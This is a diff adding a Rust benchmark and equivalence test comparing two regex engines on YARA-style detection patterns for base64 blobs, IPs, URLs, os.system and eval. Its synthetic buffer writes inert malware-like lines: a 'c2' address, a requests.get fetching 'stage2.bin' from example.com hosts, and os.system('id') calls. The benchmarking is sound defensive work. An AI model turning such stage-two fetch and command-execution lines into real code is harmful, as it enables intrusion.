@@ -1,0 +1,235 @@
+//! Quadratic-vs-linear regex scan comparison (ISSUE 3).
+//!
+//! Builds a deterministic "regex-heavy" buffer — the worst realistic case
+//! for the old engine: dense base64 blobs, IPs, URLs and word-boundary
+//! bait that keep NFA threads alive for tens of bytes at every offset —
+//! and times the single-pass Pike VM against the seed's
+//! restart-per-offset [`ReferenceRegex`] on identical inputs. Every
+//! comparison also asserts the two engines return byte-identical
+//! matches, so the speedup table doubles as an equivalence check.
+
+use std::time::Instant;
+
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+use textmatch::{ReferenceRegex, Regex};
+
+/// Patterns representative of the paper's YARA `strings:` sections, one
+/// per acceleration path (first-byte class, literal prefix, word
+/// boundary, digit class, alternation prefix).
+pub const PATTERNS: &[(&str, &str)] = &[
+    ("base64-blob", r"([A-Za-z0-9+/]{4}){8,}(==|=)?"),
+    // Requires the `=` padding: long unpadded base64 runs are deep
+    // near-misses, the old engine's true quadratic worst case (every
+    // offset probes to the end of the run before failing).
+    ("b64-padded", r"[A-Za-z0-9+/]{16,}={1,2}"),
+    ("ipv4", r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}"),
+    ("url", r"https?://[\w.\-/]{8,}"),
+    ("os-system", r"os\.system\("),
+    ("word-eval", r"\beval\b"),
+];
+
+/// One pattern's measurement on one buffer.
+#[derive(Debug, Clone)]
+pub struct RegexScanRow {
+    /// Pattern label from [`PATTERNS`].
+    pub name: &'static str,
+    /// Matches found (identical for both engines by assertion).
+    pub matches: usize,
+    /// Wall-clock milliseconds for the single-pass Pike VM.
+    pub pike_ms: f64,
+    /// Wall-clock milliseconds for the seed's restart-per-offset engine.
+    pub reference_ms: f64,
+}
+
+impl RegexScanRow {
+    /// reference / pike; > 1 means the new engine is faster.
+    pub fn speedup(&self) -> f64 {
+        if self.pike_ms > 0.0 {
+            self.reference_ms / self.pike_ms
+        } else {
+            f64::INFINITY
+        }
+    }
+}
+
+const B64_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+
+/// A deterministic regex-heavy buffer of (at least) `len` bytes: a cycle
+/// of base64 blobs, dotted quads, URLs, `os.system(` calls, `eval` bait
+/// and digit-dense filler, with rng-varied content. Every pattern in
+/// [`PATTERNS`] is guaranteed to match for `len` above ~1 KiB.
+pub fn heavy_buffer(len: usize, seed: u64) -> Vec<u8> {
+    let mut rng = StdRng::seed_from_u64(seed);
+    let mut out = Vec::with_capacity(len + 256);
+    let mut kind = 0usize;
+    while out.len() < len {
+        match kind % 6 {
+            0 => {
+                // Base64 blob: 48-248 chars (the size of a realistic
+                // encoded payload chunk) — the old engine's worst case,
+                // since every interior offset restarts a probe that runs
+                // to the end of the blob.
+                let n = 48 + (rng.next_u64() % 201) as usize;
+                out.extend_from_slice(b"payload = '");
+                for _ in 0..n {
+                    let i = (rng.next_u64() % 64) as usize;
+                    out.push(B64_ALPHABET[i]);
+                }
+                // Mostly unpadded: deep near-misses for `b64-padded`.
+                if rng.next_u64().is_multiple_of(4) {
+                    out.extend_from_slice(b"=='\n");
+                } else {
+                    out.extend_from_slice(b"'\n");
+                }
+            }
+            1 => {
+                let a = rng.next_u64() % 256;
+                let b = rng.next_u64() % 256;
+                out.extend_from_slice(format!("c2 = '10.{a}.{b}.7:8080'\n").as_bytes());
+            }
+            2 => {
+                let h = rng.next_u64() % 100_000;
+                out.extend_from_slice(
+                    format!("requests.get('http://h{h}.example.com/stage2.bin')\n").as_bytes(),
+                );
+            }
+            3 => {
+                let v = rng.next_u64() % 1000;
+                out.extend_from_slice(format!("os.system('id {v}')  # medieval\n").as_bytes());
+            }
+            4 => {
+                let v = rng.next_u64() % 1000;
+                out.extend_from_slice(format!("x{v} = eval(str({v} + 1))\n").as_bytes());
+            }
+            _ => {
+                // Digit-dense filler: bait for the IPv4 pattern's \d probes.
+                let a = rng.next_u64();
+                let b = rng.next_u64();
+                out.extend_from_slice(format!("checksum_{a} = {b}1234567890\n").as_bytes());
+            }
+        }
+        kind += 1;
+    }
+    out.truncate(len);
+    out
+}
+
+/// Runs every pattern over a fresh `len`-byte heavy buffer with both
+/// engines, asserting identical matches and timing each.
+///
+/// # Panics
+///
+/// Panics if the engines disagree on any match — the bench doubles as an
+/// end-to-end equivalence check.
+pub fn compare(len: usize, seed: u64) -> Vec<RegexScanRow> {
+    let data = heavy_buffer(len, seed);
+    PATTERNS
+        .iter()
+        .map(|(name, pattern)| {
+            let pike = Regex::new(pattern).expect("bench pattern compiles");
+            let reference = ReferenceRegex::from_regex(&pike);
+            let t = Instant::now();
+            let pike_matches = pike.find_all(&data);
+            let pike_ms = t.elapsed().as_secs_f64() * 1e3;
+            let t = Instant::now();
+            let reference_matches = reference.find_all(&data);
+            let reference_ms = t.elapsed().as_secs_f64() * 1e3;
+            assert_eq!(
+                pike_matches, reference_matches,
+                "engine divergence on pattern {name}"
+            );
+            RegexScanRow {
+                name,
+                matches: pike_matches.len(),
+                pike_ms,
+                reference_ms,
+            }
+        })
+        .collect()
+}
+
+/// Renders the comparison as an aligned text table.
+pub fn render(rows: &[RegexScanRow], len: usize) -> String {
+    let mut out = String::new();
+    out.push_str(&format!(
+        "Regex scan: single-pass Pike VM vs seed engine ({} KiB regex-heavy buffer)\n",
+        len / 1024
+    ));
+    out.push_str(&format!(
+        "{:<14} {:>9} {:>12} {:>12} {:>9}\n",
+        "pattern", "matches", "pike (ms)", "seed (ms)", "speedup"
+    ));
+    for r in rows {
+        out.push_str(&format!(
+            "{:<14} {:>9} {:>12.2} {:>12.2} {:>8.1}x\n",
+            r.name,
+            r.matches,
+            r.pike_ms,
+            r.reference_ms,
+            r.speedup()
+        ));
+    }
+    let total_pike: f64 = rows.iter().map(|r| r.pike_ms).sum();
+    let total_ref: f64 = rows.iter().map(|r| r.reference_ms).sum();
+    out.push_str(&format!(
+        "{:<14} {:>9} {:>12.2} {:>12.2} {:>8.1}x\n",
+        "TOTAL",
+        rows.iter().map(|r| r.matches).sum::<usize>(),
+        total_pike,
+        total_ref,
+        if total_pike > 0.0 {
+            total_ref / total_pike
+        } else {
+            f64::INFINITY
+        }
+    ));
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::time::Duration;
+
+    #[test]
+    fn heavy_buffer_is_deterministic_and_sized() {
+        let a = heavy_buffer(4096, 42);
+        let b = heavy_buffer(4096, 42);
+        assert_eq!(a, b);
+        assert_eq!(a.len(), 4096);
+        assert_ne!(a, heavy_buffer(4096, 43));
+    }
+
+    #[test]
+    fn engines_agree_on_heavy_buffer() {
+        // `compare` asserts equivalence internally; a tiny buffer keeps
+        // the quadratic engine affordable in debug builds.
+        let rows = compare(16 << 10, 7);
+        assert_eq!(rows.len(), PATTERNS.len());
+    }
+
+    /// CI throughput smoke (release mode): the 1 MiB regex-heavy scan
+    /// must stay far under a generous wall-clock ceiling — the quadratic
+    /// seed engine blows it by an order of magnitude, so its return
+    /// cannot go unnoticed.
+    #[test]
+    fn regex_throughput_smoke() {
+        let debug = cfg!(debug_assertions);
+        let len = if debug { 64 << 10 } else { 1 << 20 };
+        let data = heavy_buffer(len, 42);
+        let start = Instant::now();
+        for (name, pattern) in PATTERNS {
+            let re = Regex::new(pattern).expect("pattern compiles");
+            let found = re.find_all(&data);
+            assert!(!found.is_empty(), "pattern {name} must match the buffer");
+        }
+        let elapsed = start.elapsed();
+        if !debug {
+            assert!(
+                elapsed < Duration::from_secs(5),
+                "1 MiB regex-heavy scan took {elapsed:?}: quadratic regression?"
+            );
+        }
+    }
+}
